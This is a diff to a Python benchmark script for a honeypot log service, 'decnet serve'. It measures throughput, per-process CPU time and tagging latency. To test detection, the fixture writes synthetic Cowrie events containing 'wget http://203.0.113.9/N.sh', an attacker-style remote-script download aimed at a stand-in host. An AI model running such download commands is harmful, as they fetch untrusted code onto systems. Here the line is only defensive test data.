@@ -1,12 +1,14 @@
 """A burst through the bus: ``decnet serve`` on one host, and what several ttp workers cost on several.
 
-Lines per second from the log to stored tags and findings, through the journal; and CPU time per event of one, two and
-four ttp workers on JetStream and MariaDB. ``python -m bench.serve`` prints the figures.
+Lines per second from the log to stored tags and findings, through the journal, the CPU time that they cost in each
+process, and how soon the tag of a single line is there; CPU time per event of one, two and four ttp workers on
+JetStream and MariaDB. ``python -m bench.serve [LINES]`` prints the figures.
 """
 
 from __future__ import annotations
 
 import asyncio
+import json
 import os
 import signal
 import sqlite3
@@ -34,6 +36,9 @@ DIVIDED_LINES = 30_000
 WORKERS = (1, 2, 4)
 RUNS = 3
 LOOK_S = 0.1
+SINGLE_LINES = 20
+SINGLE_LOOK_S = 0.002
+SINGLE_PATIENCE_S = 10.0
 IDLE_SHARE = 0.1
 """Of a processor's time: below, what a first start does, in the background too, is done."""
 _OLDEST_UNREAD = """
@@ -44,31 +49,43 @@ _READ = {"ttp": "attacker.session.ended", "attribute": "events"}
 
 
 class Figures(NamedTuple):
-    """What one run told: lines per second of the wall clock and of CPU time, and by how much each durable lagged."""
+    """What one run told: lines per second, CPU seconds by process, and by how much each durable lagged.
+
+    ``first_tag_s`` is how long after a single line was written its tag was there, for each of some.
+    """
 
     rate: float
-    rate_cpu: float
+    cpu_s: dict[str, float]
     ttp_behind_s: float
     attribute_behind_s: float
     tags: int
+    first_tag_s: list[float]
 
 
-def main() -> None:
-    """Print the figures."""
-    _serve()
+def main(count: int = LINES) -> None:
+    """Print the figures for a burst of ``count`` lines."""
+    _serve(count)
     _divided()
 
 
-def _serve() -> None:
+def _serve(count: int) -> None:
     with tempfile.TemporaryDirectory() as folder:
-        burst = "\n".join(lines(LINES)) + "\n"
+        burst = list(lines(count))
         runs = [_embedded(Path(folder) / str(number), burst) for number in range(RUNS)]
-    print(f"decnet serve, {LINES:,} lines of a synthetic Cowrie log at once, empty SQLite, {runs[0].tags:,} tags")
+    print(f"decnet serve, {count:,} lines of a synthetic Cowrie log at once, empty SQLite, {runs[0].tags:,} tags")
     print(f"  lines per second      {_spread([run.rate for run in runs])}, until all is tagged and attributed")
-    print(f"  lines per CPU second  {_spread([run.rate_cpu for run in runs])}")
+    print(f"  lines per CPU second  {_spread([count / sum(run.cpu_s.values()) for run in runs])}")
+    middle = sorted(runs, key=lambda run: sum(run.cpu_s.values()))[len(runs) // 2]
+    each = ", ".join(f"{name} {seconds * 1_000 / count:.3f}" for name, seconds in middle.cpu_s.items())
+    print(f"  CPU s per 1,000 lines {sum(middle.cpu_s.values()) * 1_000 / count:.3f}: {each}")
     print(
         f"  longest wait          {max(run.ttp_behind_s for run in runs):.1f} s for ttp, "
         f"{max(run.attribute_behind_s for run in runs):.1f} s for attribute"
+    )
+    first = sorted(seconds * 1_000 for run in runs for seconds in run.first_tag_s)
+    print(
+        f"  tag of a single line  median {statistics.median(first):.0f} ms, "
+        f"95 of 100 within {first[int(0.95 * (len(first) - 1))]:.0f} ms, {len(first)} lines"
     )
 
 
@@ -76,22 +93,53 @@ def _spread(figures: list[float]) -> str:
     return f"median {statistics.median(figures):,.0f} (min {min(figures):,.0f}, max {max(figures):,.0f}, {RUNS} runs)"
 
 
-def _embedded(folder: Path, burst: str) -> Figures:
+def _embedded(folder: Path, burst: list[str]) -> Figures:
+    """What a serve of its own in ``folder`` does with the lines ``burst``, then with single ones."""
     folder.mkdir()
     log = folder / "cowrie.json"
     log.touch()
     environment = os.environ | {"DECNET_DATA_DIR": str(folder)}
     command = [sys.executable, "-m", "decnet", "serve", str(log), "--no-web", "--json"]
     with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE) as serving:
+        if serving.stdout is not None:
+            serving.stdout.readline()  # all are at work now
         _wait_until_idle(serving.pid)
-        log.write_text(burst)
-        begun, before = time.monotonic(), _cpu_of(serving.pid)
-        waits = _followed(folder / "decnet.sqlite", len(burst))
-        seconds, cpu_seconds = time.monotonic() - begun, _cpu_of(serving.pid) - before
+        written = "\n".join(burst) + "\n"
+        log.write_text(written)
+        begun, before = time.monotonic(), _cpu_by_process(serving.pid)
+        waits = _followed(folder / "decnet.sqlite", len(written))
+        seconds, after = time.monotonic() - begun, _cpu_by_process(serving.pid)
+        _wait_until_idle(serving.pid)
+        with closing(sqlite3.connect(f"file:{folder / 'decnet.sqlite'}?mode=ro", uri=True, timeout=5)) as database:
+            (tags,) = database.execute("SELECT count(*) FROM tag").fetchone()
+            first_tags = [_first_tag(database, log, number) for number in range(SINGLE_LINES)]
         serving.send_signal(signal.SIGTERM)
-    with closing(sqlite3.connect(folder / "decnet.sqlite")) as database:
-        (tags,) = database.execute("SELECT count(*) FROM tag").fetchone()
-    return Figures(LINES / seconds, LINES / cpu_seconds, *waits, tags)
+    used = {name: after[name] - before[name] for name in after}
+    return Figures(len(burst) / seconds, used, *waits, tags, first_tags)
+
+
+def _first_tag(database: sqlite3.Connection, log: Path, number: int) -> float:
+    """Seconds from the writing of a line that tells of a download to its tag."""
+    line = {
+        "eventid": "cowrie.command.input",
+        "timestamp": f"2026-12-01T00:00:{number:02}.000000Z",
+        "input": f"wget http://203.0.113.9/{number}.sh",
+        "session": f"{number:012x}",
+        "src_ip": f"192.0.2.{number + 20}",
+        "sensor": "svr04",
+        "protocol": "ssh",
+    }
+    (known,) = database.execute("SELECT count(*) FROM tag").fetchone()
+    begun = time.monotonic()
+    with log.open("a") as growing:
+        growing.write(json.dumps(line) + "\n")
+    while database.execute("SELECT count(*) FROM tag").fetchone()[0] == known:
+        if time.monotonic() > begun + SINGLE_PATIENCE_S:
+            raise TimeoutError(f"a line has no tag after {SINGLE_PATIENCE_S:g} s; do the rules know wget?")
+        time.sleep(SINGLE_LOOK_S)
+    waited = time.monotonic() - begun
+    time.sleep(LOOK_S)  # whatever else follows of it
+    return waited
 
 
 def _followed(path: Path, size: int) -> tuple[float, float]:
@@ -179,14 +227,24 @@ def _wait_until_idle(process: int) -> None:
 
 
 def _cpu_of(process: int) -> float:
-    """CPU seconds of a process and its children so far (proc(5): utime and stime are fields 14 and 15)."""
+    """CPU seconds of a process and its children so far."""
+    return sum(_cpu_by_process(process).values())
+
+
+def _cpu_by_process(process: int) -> dict[str, float]:
+    """CPU seconds of ``process``, under ``serve``, and of each of its children, under the name of its worker.
+
+    See proc(5): utime and stime are fields 14 and 15.
+    """
     children = Path(f"/proc/{process}/task/{process}/children").read_text("ascii").split()
-    seconds = 0.0
+    seconds: dict[str, float] = {}
     for each in (str(process), *children):
+        words = Path(f"/proc/{each}/cmdline").read_bytes().decode().split("\0")
+        name = words[words.index("worker") + 1] if "worker" in words else "serve"
         fields = Path(f"/proc/{each}/stat").read_text("ascii").rpartition(")")[2].split()
-        seconds += (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+        seconds[name] = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
     return seconds
 
 
 if __name__ == "__main__":
-    main()
+    main(*map(int, sys.argv[1:]))
